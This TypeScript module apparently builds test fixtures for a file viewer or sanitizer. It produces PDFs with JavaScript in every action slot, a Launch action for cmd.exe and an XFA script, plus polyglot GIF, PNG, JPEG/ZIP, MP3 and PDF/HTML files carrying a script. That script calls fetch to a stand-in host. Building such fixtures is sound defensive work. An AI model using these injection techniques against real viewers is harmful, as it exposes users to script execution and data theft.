// Files as somebody would send them who wants a holder's browser to run or fetch something, and pages to draw.

/** What each of them tries: a mark in the page, and a request to somebody else. */
export const program = "globalThis.ran=1;document.title='ran';alert(1);fetch('https://example.org/taken')";

const latin = (text: string): Buffer => Buffer.from(text, "latin1");

/** Objects of a PDF, the first of which is its catalogue, under a table of where they are. */
function pdfOf(objects: readonly (string | Buffer)[], trailer = ""): Buffer {
  const parts: Buffer[] = [latin("%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n")];
  let length = parts[0]!.length;
  const places = objects.map((object, i) => {
    const place = length;
    const part = Buffer.concat([latin(`${i + 1} 0 obj\n`), typeof object === "string" ? latin(object) : object, latin("\nendobj\n")]);
    parts.push(part);
    length += part.length;
    return `${String(place).padStart(10, "0")} 00000 n \n`;
  });
  parts.push(latin(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join("")}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${length}\n%%EOF\n`));
  return Buffer.concat(parts);
}

function streamOf(dictionary: string, content: string | Buffer): Buffer {
  const bytes = typeof content === "string" ? latin(content) : content;
  return Buffer.concat([latin(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`), bytes, latin("\nendstream")]);
}

// Group 4 fax, as scanners write it: 64 rows like the one before, then the end. Black all over.
const fax = Buffer.from([...Array.from({ length: 8 }, () => 0xff), 0x00, 0x10, 0x01]);

/** Words on the first page, a scan on the second, and a program at each place that a PDF has for one. */
export function pdfWithPrograms(): Buffer {
  const script = `<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://example.org/form'\\); app.launchURL\\('https://example.org/js'\\);) >>`;
  const uri = "<< /S /URI /URI (https://example.org/uri) >>";
  const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">${program}</script></event></subform></template></xdp:xdp>`;
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [(a) ${script}] >> /EmbeddedFiles << /Names [(page.html) 9 0 R] >> >> /AcroForm << /Fields [10 0 R] /XFA 8 0 R /NeedAppearances true >> >>`,
    "<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R /Resources << /Font << /F1 6 0 R >> >> /AA << /O ${script} >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${uri} /AA << /E ${uri} >> >> << /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /Launch /F (cmd.exe) >> >> 10 0 R] >>`,
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 11 0 R /Resources << /XObject << /Scan 12 0 R >> >> >>",
    streamOf("", "0.1 0.2 0.6 rg 72 72 300 100 re f 0 g BT /F1 24 Tf 72 700 Td (The number plate was UN-4711) Tj ET"),
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    "null",
    streamOf("", xfa),
    "<< /Type /Filespec /F (page.html) /EF << /F 13 0 R >> >>",
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [72 600 272 630] /V (typed) /AA << /K ${script} /F ${script} /V ${script} /C ${script} >> >>`,
    streamOf("", "q 300 0 0 300 72 400 cm /Scan Do Q"),
    streamOf("/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 64 /Rows 64 /BlackIs1 true >>", fax),
    streamOf("/Type /EmbeddedFile", `<script>${program}</script>`),
  ]);
}

/** Opens with a password that nobody told. */
export function encryptedPdf(): Buffer {
  const hex = "ab".repeat(32);
  return pdfOf(
    ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"],
    `/Encrypt << /Filter /Standard /V 1 /R 2 /O <${hex}> /U <${hex}> /P -4 >> /ID [<${hex}> <${hex}>]`,
  );
}

/** One page of a size that no canvas has. */
export function hugePdf(): Buffer {
  return pdfOf([
    "<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14400 14400] /UserUnit 75000 /Contents 4 0 R >>",
    streamOf("", "0 g 0 0 14400 7200 re f"),
  ]);
}

export const brokenPdf = latin("%PDF-1.7\nthis is all that there is of it, and no table\n");

/** Both a PDF and, for who reads it as such, a page. */
export const pdfAndHtml = (): Buffer => Buffer.concat([pdfWithPrograms(), latin(`\n<html><script>${program}</script></html>`)]);

const pixel = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");
/** A picture, and for who reads it as one, a script. */
export const gifAndScript = Buffer.concat([pixel, latin(`*/=1;${program}//<script>${program}</script>`)]);
const dot = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64");
export const pngAndHtml = Buffer.concat([dot, latin(`<html><script>${program}</script></html>`)]);

const jpeg = Buffer.from(
  "/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAP//////////////////////////////////////////////////////////////////////////////////////wgALCAABAAEBAREA/8QAFBABAAAAAAAAAAAAAAAAAAAAAP/aAAgBAQABPxA=",
  "base64",
);
/** A picture, and for who reads from the end, an archive with a page in it. */
export const jpegAndZip = Buffer.concat([jpeg, latin("PK\u0003\u0004page.html"), latin(`<script>${program}</script>`), latin("PK\u0005\u0006"), Buffer.alloc(18)]);

/** Sound whose tag holds a page. */
export function mp3WithHtml(): Buffer {
  const page = latin(`<html><script>${program}</script></html>`);
  const frame = Buffer.concat([latin("TIT2"), Buffer.from([0, 0, 0, page.length + 1, 0, 0, 0]), page]);
  return Buffer.concat([latin("ID3\u0003\u0000\u0000"), Buffer.from([0, 0, frame.length >> 7, frame.length & 0x7f]), frame, Buffer.from([0xff, 0xfb, 0x90, 0x00]), Buffer.alloc(413)]);
}
